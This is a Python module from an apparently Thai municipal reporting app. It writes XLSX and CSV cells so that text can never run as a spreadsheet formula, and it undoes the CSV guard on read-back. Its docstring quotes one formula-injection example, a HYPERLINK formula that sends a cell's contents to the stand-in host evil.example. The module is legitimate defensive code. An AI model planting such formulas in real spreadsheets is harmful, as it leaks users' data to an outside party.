"""Every cell of every spreadsheet the app writes, XLSX or CSV: text stays text.

A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab
or carriage return before one) as a formula. A narrative such as
``=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")`` or a project name starting with
``=`` would become a live formula that sends the cells beside it anywhere (formula or
"CSV injection", OWASP). So every producer writes its cells through this module:

- XLSX: text is a string cell (``data_type`` "s"), which no program evaluates. Text that
  starts like a formula also gets Excel's "quote prefix" style, as if typed with a
  leading ``'``, so that editing the cell does not turn it into one either. The text
  itself is unchanged: the plan export reads back exactly as it was written. Characters
  an XLSX file cannot hold (controls other than tab and line ends) are dropped.
- CSV has no cell types: text that starts like a formula gets a leading ``'`` (OWASP),
  and so does text that already starts with ``'`` before what looks like a formula
  (``'=1``), so that the guard can be undone without guessing: ``csv_text_back`` drops
  the leading ``'`` exactly where ``csv_field`` added one, and ``csv_reader`` reads a
  file this module wrote back to the original text (the open-data round trip,
  reports/opendata). Excel shows the ``'`` of a guarded cell; that is the price of a
  cell that never runs.
- Numbers (int, Decimal, float), booleans and dates stay numbers, booleans and dates.

Producers: projects/imports/workbook_write.py (template and plan export), reports/xlsx.py
(agency and whole-BMA reports), reports/dashboard_export.py (dashboard CSV and XLSX),
reports/opendata (open-data CSV files, streamed with ``csv_write``);
tests/hostile/test_spreadsheet_formulas.py walks each of them.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterable, Iterator, Sequence
from decimal import Decimal
from typing import TextIO

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.worksheet.worksheet import Worksheet

# What a spreadsheet program may read as the start of a formula (OWASP's list).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

# Values written as themselves (bool is an int, datetime a date).
_TYPED = (int, float, Decimal, dt.date, dt.time, dt.timedelta)


def starts_like_formula(text: str) -> bool:
    return text.startswith(FORMULA_START)


def needs_csv_guard(text: str) -> bool:
    """Text that CSV writes with a leading ``'``: it starts like a formula, or it is
    ``'`` characters before something that does (so that reading back is unambiguous)."""
    return starts_like_formula(text.lstrip("'"))


# --- XLSX -------------------------------------------------------------------------------


def set_value(cell: Cell, value) -> Cell:
    """Put ``value`` in ``cell``: text as a string cell, never a formula."""
    if value is None or isinstance(value, _TYPED):
        cell.value = value
        return cell
    text = ILLEGAL_CHARACTERS_RE.sub("", str(value))
    cell.value = text  # openpyxl types "=…" as a formula and "#N/A" as an error…
    cell.data_type = "s"  # …and this makes it text again
    if starts_like_formula(text):
        cell.quotePrefix = True
    return cell


def write(sheet: Worksheet, *, row: int, column: int, value) -> Cell:
    """``sheet.cell(row, column, value)`` through ``set_value``."""
    return set_value(sheet.cell(row=row, column=column), value)


def write_formula(sheet: Worksheet, *, row: int, column: int, formula: str) -> Cell:
    """A formula the application itself composed (never text from data): the month's
    workbook computes the percent of each row for reference (projects/imports/
    month_write.py); the server recomputes it and never reads it back."""
    if not formula.startswith("="):
        raise ValueError("a formula starts with =")
    cell = sheet.cell(row=row, column=column)
    cell.value = formula
    cell.data_type = "f"
    return cell


def append(sheet: Worksheet, values: Iterable) -> None:
    """``sheet.append(values)`` through ``set_value`` (an empty list is an empty row)."""
    sheet.append([set_value(Cell(sheet), value) for value in values])


# --- CSV --------------------------------------------------------------------------------


def csv_field(value) -> str:
    if value is None:
        return ""
    if isinstance(value, _TYPED):
        return str(value)
    text = str(value)
    return "'" + text if needs_csv_guard(text) else text


def csv_text_back(field: str) -> str:
    """The text ``csv_field`` was given (for text; numbers read back as their text)."""
    if field.startswith("'") and needs_csv_guard(field[1:]):
        return field[1:]
    return field


# Excel opens a CSV file as UTF-8 only when it starts with the byte-order mark.
BOM = "\ufeff"


def csv_write(handle: TextIO, rows: Iterable[Sequence]) -> int:
    """Write ``rows`` to ``handle`` (a text file opened with ``newline=""`` and UTF-8),
    the byte-order mark first, one row at a time (an iterator of rows is never held
    whole). Returns the number of rows written."""
    handle.write(BOM)
    writer = csv.writer(handle)
    count = 0
    for row in rows:
        writer.writerow([csv_field(value) for value in row])
        count += 1
    return count


def csv_reader(handle: TextIO) -> Iterator[list[str]]:
    """Read a file ``csv_write`` wrote (opened with ``newline=""``; the byte-order mark
    may be there or not): each row's fields with the formula guard undone."""

    def lines():
        first = True
        for line in handle:
            yield line.removeprefix(BOM) if first else line
            first = False

    for row in csv.reader(lines()):
        yield [csv_text_back(field) for field in row]


def csv_bytes(rows: Iterable[Sequence]) -> bytes:
    """UTF-8 with a byte-order mark, so that Excel opens the Thai text as Thai."""
    buffer = io.StringIO()
    csv_write(buffer, rows)
    return buffer.getvalue().encode("utf-8")
